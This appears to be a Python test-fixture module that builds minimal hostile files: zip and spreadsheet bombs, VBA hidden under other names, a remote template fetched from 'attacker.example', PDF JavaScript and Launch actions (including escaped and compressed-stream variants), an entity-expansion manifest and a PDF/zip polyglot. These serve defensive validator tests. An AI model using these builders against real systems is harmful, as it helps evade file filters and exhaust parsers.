"""Hostile files built in memory: spreadsheet and zip bombs, active content, polyglots.

Each builder makes the smallest file that shows one attack, so a test names exactly what is refused.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from documents import samplefiles

_XLSX_CT = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
_WORKBOOK = (
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Cases" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>'
)
_ROOT_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
SHEET_HEAD = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


def inline_row(number: int, values: list[str]) -> str:
    cells = "".join(f'<c t="inlineStr"><is><t>{value}</t></is></c>' for value in values)
    return f'<row r="{number}">{cells}</row>'


def xlsx_with_sheet(sheet_xml: str | bytes) -> bytes:
    """A workbook whose one sheet is exactly the XML given."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", _XLSX_CT)
        z.writestr("_rels/.rels", _ROOT_RELS)
        z.writestr("xl/workbook.xml", _WORKBOOK)
        z.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        z.writestr("xl/worksheets/sheet1.xml", sheet_xml)
    return out.getvalue()


def dimension_bomb(header: list[str], row: list[str], *, last_row: int | None = None) -> bytes:
    """Two real rows under a declared size of 16,384 columns by 1,048,576 rows (1.6 KB)."""
    rows = inline_row(1, header) + inline_row(2, row)
    if last_row:
        rows += inline_row(last_row, row)
    return xlsx_with_sheet(SHEET_HEAD + f'<dimension ref="A1:XFD1048576"/><sheetData>{rows}</sheetData></worksheet>')


def million_rows_xlsx(header: list[str], rows: int = 1_000_000) -> bytes:
    """A header and a million one-cell rows: about 150 KB on disk."""
    body = "<row><c><v>1</v></c></row>" * rows
    return xlsx_with_sheet(SHEET_HEAD + "<sheetData>" + inline_row(1, header) + body + "</sheetData></worksheet>")


def blank_lines_csv(header: str, size: int = 20 * 1024 * 1024) -> bytes:
    """A header then blank lines up to ``size`` bytes."""
    head = (header + "\r\n").encode()
    return head + b"\n" * (size - len(head))


def _deflate_zeros(total: int, piece: int = 1024 * 1024) -> bytes:
    """Raw deflate data inflating to ``total`` zero bytes, built without inflating anything."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(b"\0" * piece) + compressor.flush(zlib.Z_FULL_FLUSH)
    return block * (total // piece) + b"\x03\x00"  # an empty final block ends the stream


def _raw_zip(entries: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip from (name, raw deflate data, declared size, crc) written by hand, sizes as given."""
    out = io.BytesIO()
    central = []
    for name, data, declared, crc in entries:
        offset = out.tell()
        encoded = name.encode()
        out.write(
            struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(data), declared, len(encoded), 0)
        )
        out.write(encoded + data)
        central.append(
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                0,
                crc,
                len(data),
                declared,
                len(encoded),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + encoded
        )
    start = out.tell()
    for record in central:
        out.write(record)
    size = out.tell() - start
    out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(central), len(central), size, start, 0))
    return out.getvalue()


def _deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def zip_bomb_docx(inflated: int = 1024**3, declared: int = 1000) -> bytes:
    """A 1 MB DOCX whose [Content_Types].xml claims ``declared`` bytes but inflates to ``inflated``."""
    return _raw_zip([("[Content_Types].xml", _deflate_zeros(inflated), declared, 0)])


def zip_bomb_xlsx(inflated: int = 1024**3) -> bytes:
    """A case list workbook whose sheet honestly declares it inflates to a gigabyte."""
    parts = [
        ("[Content_Types].xml", _XLSX_CT.encode()),
        ("xl/workbook.xml", _WORKBOOK.encode()),
        ("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS.encode()),
    ]
    entries = [(name, _deflate(data), len(data), zlib.crc32(data)) for name, data in parts]
    entries.append(("xl/worksheets/sheet1.xml", _deflate_zeros(inflated), inflated, 0))
    return _raw_zip(entries)


def _docx_with(extra_types: str = "", extra_parts: dict[str, bytes | str] | None = None, main_type: str = "") -> bytes:
    main = main_type or "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main}"/>{extra_types}</Types>',
        )
        z.writestr(
            "_rels/.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'officeDocument" Target="word/document.xml"/></Relationships>',
        )
        z.writestr(
            "word/document.xml",
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            "<w:body><w:p><w:r><w:t>Plan</w:t></w:r></w:p></w:body></w:document>",
        )
        for name, data in (extra_parts or {}).items():
            z.writestr(name, data)
    return out.getvalue()


OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504


def vba_under_another_name() -> bytes:
    return _docx_with(
        '<Override PartName="/word/macros.dat" ContentType="application/vnd.ms-office.vbaProject"/>',
        {"word/macros.dat": OLE_HEADER},
    )


def vba_bytes_under_plain_name() -> bytes:
    """A VBA project's compound file stored as ``word/media/image1.png`` with no declared type."""
    return _docx_with(extra_parts={"word/media/image1.png": OLE_HEADER})


def lower_case_macro_main_part() -> bytes:
    """The real main part declared ``macroenabled`` in lower case, next to a decoy ordinary one."""
    return _docx_with(
        '<Override PartName="/word/decoy.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>',
        {"word/decoy.xml": "<x/>"},
        main_type="application/vnd.ms-word.document.macroenabled.main+xml",
    )


def remote_template() -> bytes:
    return _docx_with(
        extra_parts={
            "word/settings.xml": '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
            "word/_rels/settings.xml.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                'attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
            ),
        }
    )


def embedded_ole_object() -> bytes:
    return _docx_with(
        '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
        {
            "word/embeddings/oleObject1.bin": OLE_HEADER,
            "word/_rels/document.xml.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                '<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                'oleObject" Target="embeddings/oleObject1.bin"/></Relationships>'
            ),
        },
    )


def activex_control() -> bytes:
    return _docx_with(
        extra_parts={
            "word/_rels/document.xml.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                '<Relationship Id="rId6" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                'control" Target="activeX/activeX1.xml"/></Relationships>'
            ),
            "word/activeX/activeX1.xml": "<ax/>",
        },
    )


def doctype_in_manifest() -> bytes:
    """An entity-expansion attempt in the package manifest."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">&b;</Types>',
        )
    return out.getvalue()


def _pdf(extra_catalog: bytes = b"", extra_objects: tuple[bytes, ...] = ()) -> bytes:
    """A one-page PDF whose catalogue carries ``extra_catalog``; extra objects are numbered from 4."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + extra_catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        *extra_objects,
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def pdf_open_action_javascript() -> bytes:
    return _pdf(b"/OpenAction 4 0 R", (b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>",))


def pdf_escaped_javascript() -> bytes:
    """The same action with its names spelt in ``#xx`` escapes."""
    return _pdf(b"/Open#41ction 4 0 R", (b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert(1)) >>",))


def pdf_launch_action() -> bytes:
    return _pdf(b"/OpenAction 4 0 R", (b"<< /S /Launch /F (cmd.exe) >>",))


def pdf_compressed_javascript() -> bytes:
    """JavaScript hidden in a compressed object stream, where a scan of the raw bytes cannot see it."""
    inner = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    header = b"4 0 "
    data = zlib.compress(header + inner)
    stream = (
        b"<< /Type /ObjStm /N 1 /First "
        + str(len(header)).encode()
        + b" /Filter /FlateDecode /Length "
        + str(len(data)).encode()
        + b" >>\nstream\n"
        + data
        + b"\nendstream"
    )
    # Object 4 lives in object stream 5; a cross-reference stream says so.
    body_objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Names << /Dests 4 0 R >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n")
    offsets = {}
    for number, body in enumerate(body_objects, start=1):
        offsets[number] = out.tell()
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    offsets[5] = out.tell()
    out.write(b"5 0 obj\n" + stream + b"\nendobj\n")
    xref_offset = out.tell()
    rows = [b"\x00\x00\x00\x00\xff"]
    for number in (1, 2, 3):
        rows.append(b"\x01" + struct.pack(">I", offsets[number]))
    rows.append(b"\x02" + struct.pack(">I", 5))  # object 4: first in object stream 5
    rows.append(b"\x01" + struct.pack(">I", offsets[5]))
    rows.append(b"\x01" + struct.pack(">I", xref_offset))
    xref_data = b"".join(rows)
    out.write(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 0] /Root 1 0 R /Length "
        + str(len(xref_data)).encode()
        + b" >>\nstream\n"
        + xref_data
        + b"\nendstream\nendobj\n"
    )
    out.write(f"startxref\n{xref_offset}\n%%EOF\n".encode())
    return out.getvalue()


def pdf_embedded_file() -> bytes:
    return _pdf(
        b"/Names << /EmbeddedFiles 4 0 R >>",
        (b"<< /Names [(a.exe) 5 0 R] >>", b"<< /Type /Filespec /F (a.exe) >>"),
    )


def pdf_zip_polyglot() -> bytes:
    """A real PDF with a zip archive appended: opens as either."""
    return samplefiles.pdf_bytes() + samplefiles.docx_bytes()
